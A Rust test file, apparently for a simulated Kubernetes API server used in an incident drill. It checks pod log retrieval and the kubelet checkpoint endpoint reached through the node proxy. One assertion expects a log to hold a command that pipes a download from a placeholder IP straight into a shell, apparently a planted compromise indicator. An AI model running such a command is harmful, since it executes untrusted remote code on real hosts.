//! pods/log and the kubelet checkpoint endpoint through the node proxy.

use k8s_openapi::api::core::v1::{Node, Pod};
use kube::Api;
use kube::api::{LogParams, Patch, PatchParams};
use serde_json::{Value, json};

use crate::common::{TestResult, api_error, send_text, start};

#[tokio::test]
async fn logs_current_previous_and_missing() -> TestResult {
    let (_handle, client) = start().await?;
    let pods: Api<Pod> = Api::namespaced(client.clone(), "payments");

    let current = pods
        .logs(
            "api-7f9c",
            &LogParams {
                container: Some("api".into()),
                ..Default::default()
            },
        )
        .await?;
    assert!(
        current.contains("sh -c 'curl -s http://203.0.113.7/x | sh'"),
        "{current}"
    );
    // Without a container the only one is used.
    assert_eq!(pods.logs("api-7f9c", &LogParams::default()).await?, current);

    let tail = pods
        .logs(
            "api-7f9c",
            &LogParams {
                tail_lines: Some(2),
                ..Default::default()
            },
        )
        .await?;
    assert_eq!(tail.lines().count(), 2);
    assert!(current.ends_with(&tail));
    let limited = pods
        .logs(
            "api-7f9c",
            &LogParams {
                limit_bytes: Some(10),
                ..Default::default()
            },
        )
        .await?;
    assert_eq!(limited.len(), 10);
    let stamped = pods
        .logs(
            "api-5b2k",
            &LogParams {
                timestamps: true,
                tail_lines: Some(1),
                ..Default::default()
            },
        )
        .await?;
    assert!(stamped.starts_with("2026-11-20T14:12:4"), "{stamped}");

    let previous = pods
        .logs(
            "api-7f9c",
            &LogParams {
                container: Some("api".into()),
                previous: true,
                ..Default::default()
            },
        )
        .await?;
    assert!(previous.contains("panic: runtime error"), "{previous}");

    let missing = api_error(
        pods.logs(
            "api-5b2k",
            &LogParams {
                previous: true,
                ..Default::default()
            },
        )
        .await,
    );
    assert_eq!((missing.code, missing.reason.as_str()), (400, "BadRequest"));
    assert_eq!(
        missing.message,
        "previous terminated container \"api\" in pod \"api-5b2k\" not found"
    );
    let unknown = api_error(
        pods.logs(
            "api-7f9c",
            &LogParams {
                container: Some("istio-proxy".into()),
                ..Default::default()
            },
        )
        .await,
    );
    assert_eq!(unknown.code, 400);
    assert_eq!(
        unknown.message,
        "container istio-proxy is not valid for pod api-7f9c"
    );
    Ok(())
}

const NODE_1: &str = "ip-10-0-1-23.ec2.internal";
const NODE_2: &str = "ip-10-0-2-41.ec2.internal";

#[tokio::test]
async fn checkpoints_depend_on_the_node() -> TestResult {
    let (handle, client) = start().await?;
    let path = |node: &str, pod: &str, container: &str| {
        format!("/api/v1/nodes/{node}/proxy/checkpoint/payments/{pod}/{container}")
    };

    let answer: Value = serde_json::from_str(
        &send_text(&client, "POST", &path(NODE_1, "api-7f9c", "api"), "").await?,
    )?;
    let archive = answer["items"][0].as_str().unwrap_or_default();
    assert!(
        archive.starts_with("/var/lib/kubelet/checkpoints/checkpoint-api-7f9c_payments-api-"),
        "{archive}"
    );
    assert!(archive.ends_with(".tar"));

    let no_criu = api_error(send_text(&client, "POST", &path(NODE_2, "api-5b2k", "api"), "").await);
    assert_eq!(no_criu.code, 500);
    assert!(
        no_criu.message.contains("CRIU binary not found"),
        "{}",
        no_criu.message
    );

    let wrong_node =
        api_error(send_text(&client, "POST", &path(NODE_1, "api-5b2k", "api"), "").await);
    assert_eq!(wrong_node.code, 404);
    let wrong_container =
        api_error(send_text(&client, "POST", &path(NODE_1, "api-7f9c", "sidecar"), "").await);
    assert_eq!(wrong_container.code, 404);
    let no_node = api_error(
        send_text(
            &client,
            "POST",
            &path("ip-10-9-9-9.ec2.internal", "api-7f9c", "api"),
            "",
        )
        .await,
    );
    assert_eq!((no_node.code, no_node.reason.as_str()), (404, "NotFound"));

    let nodes: Api<Node> = Api::all(client.clone());
    let disable =
        json!({ "metadata": { "annotations": { "drill.warroom.io/checkpoint": "disabled" } } });
    nodes
        .patch(NODE_1, &PatchParams::default(), &Patch::Merge(disable))
        .await?;
    let disabled =
        api_error(send_text(&client, "POST", &path(NODE_1, "api-7f9c", "api"), "").await);
    assert_eq!(disabled.code, 404);
    assert_eq!(disabled.message, "404 page not found");

    let recorded = handle.requests();
    let last = recorded.last().ok_or("nothing recorded")?;
    assert_eq!(
        (
            last.verb.as_str(),
            last.group.as_str(),
            last.resource.as_str(),
            last.subresource.as_str(),
            last.namespace.as_str()
        ),
        ("create", "", "nodes", "proxy", "")
    );
    Ok(())
}
